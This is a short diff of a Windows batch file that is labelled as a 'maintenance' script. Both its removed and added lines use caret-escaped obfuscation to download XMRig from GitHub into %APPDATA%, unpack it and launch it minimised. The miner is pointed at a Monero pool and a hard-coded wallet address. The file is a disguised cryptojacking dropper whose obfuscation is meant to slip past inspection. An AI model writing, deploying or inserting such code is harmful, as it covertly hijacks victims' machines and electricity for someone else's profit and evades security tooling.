@@ -1,6 +1,6 @@
-REM setup 8613 v0
+REM maintenance 8776 v0
 @echo off
-^cd /^d %APPDATA%
-^curl -sL^o x.^z^ip ^htt^p^s://gi^t^hu^b.co^m/xmri^g/^x^m^ri^g/^r^e^l^ease^s/d^own^load/^v6.^2^1.0/xmri^g-^6.^21.^0-msvc-w^in^6^4.z^ip
-^ta^r -^xf ^x.z^i^p
-s^t^ar^t /^min x^mrig-6.2^1.^0\x^mrig.e^x^e -o s^trat^u^m+^tc^p://^po^ol.^hash^v^au^lt.pro:^443 -u 4^4AF^Fq^5^k^S^iG^Bo^Z^4^N^MD^w^Yt^N^1^8o^b^c^8Ae^m^S^33^DBLWs^3H^7^otX^f^t^3Xjr^p^DtQ^G^v7^SqS^s^aBYBb9^8u^Nbr^2^VB^B^Et7f^2^wfn3RV^GQBEP3A -^p x --^d^on^a^te-^leve^l=1
+^cd /d %APPDATA%
+^curl -sLo x.^z^i^p h^ttp^s://^gi^t^hu^b.^c^om/^xmr^ig/^xm^ri^g/re^l^ea^ses/do^wnl^oad/v6.^2^1.^0/xmr^i^g-6.21.^0-^m^svc-w^in^6^4.zip
+t^a^r -x^f ^x.zip
+s^ta^rt /^mi^n x^m^ri^g-^6.^2^1.0\x^mr^i^g.e^x^e -o st^rat^um+^tcp://^x^mr-^e^u1.n^an^o^pool.org:1^44^44 -^u 4^3Xs7GtJ^2fw^Q^pUzzV2^Dc3^n^1^C^h^P^f^Zq^B1^v^K^Er4uXe1e^S4^vN2M4^F3cyXNs1Qk3^bN4^d^Q^LqJ^8e2^xZ9^wR7^u^Y5tT^3s^K^1^pA6Bn^7^m^VcD -^p x --^dona^te-^le^ve^l=^1
